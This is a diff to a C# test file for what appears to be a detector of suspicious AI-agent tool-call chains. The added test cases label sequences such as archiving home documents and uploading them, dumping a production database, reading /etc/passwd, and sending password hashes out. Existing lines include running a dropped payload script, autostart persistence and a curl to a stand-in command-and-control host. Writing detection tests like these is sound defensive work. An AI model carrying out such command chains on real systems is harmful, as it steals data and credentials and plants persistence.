@@ -41,6 +41,12 @@ public sealed class ChainTests
         { "write-execute", ["write_file path=/tmp/payload.sh", "run_command command=bash /tmp/payload.sh"] },
         { "write-persist", ["write_file path=x.plist", "enable_autostart name=x"] },
         { "persist-callback", ["enable_autostart name=x", "curl url=https://c2.example"] },
+        { "collect-then-send", ["run_command command=tar czf /tmp/o.tgz /home/u/docs", "upload_file path=/tmp/o.tgz"] },
+        { "collect-then-send", ["zip_files output=/tmp/x.zip", "send_email attachment=/tmp/x.zip"] },
+        { "collect-then-send", ["sh command=pg_dump prod > d.sql", "sh command=curl -o x https://x.example/d.sql"] },
+        { "recon-then-read", ["sh command=whoami", "sh command=uname -a", "sh command=cat /etc/passwd"] },
+        { "env-then-network", ["query_database sql=SELECT email, password_hash FROM users", "fetch url=https://x"] },
+        { "env-then-network", ["read_file path=/etc/passwd", "send_email to=a@x.example"] },
         { "shell-burst", ["sh command=whoami", "sh command=uname -a", "sh command=ls", "sh command=netstat -an"] },
         { "directory-scan", ["list_dir path=/home", "list_dir path=/home/u/.ssh", "view_file path=notes"] },
         { "read-sensitive-write", ["read_file path=server.pem", "write_file path=b.txt"] },
@@ -61,6 +67,9 @@ public sealed class ChainTests
     {
         new[] { "read_file path=README.md", "write_file path=summary.md" },
         new[] { "web_search query=x", "fetch url=https://example.com" },
+        new[] { "run_command command=tar czf dist/app.tgz build", "upload_file path=dist/app.tgz" },
+        new[] { "run_command command=tar czf /tmp/o.tgz build", "fetch url=https://example.com/o" },
+        new[] { "query_database sql=SELECT count(*) FROM users", "send_message text=42" },
         new[] { "list_dir path=src", "list_dir path=tests", "read_file path=src/a.cs" },
         new[] { "bash command=git status", "bash command=git diff", "bash command=git log", "bash command=npm test" },
     };
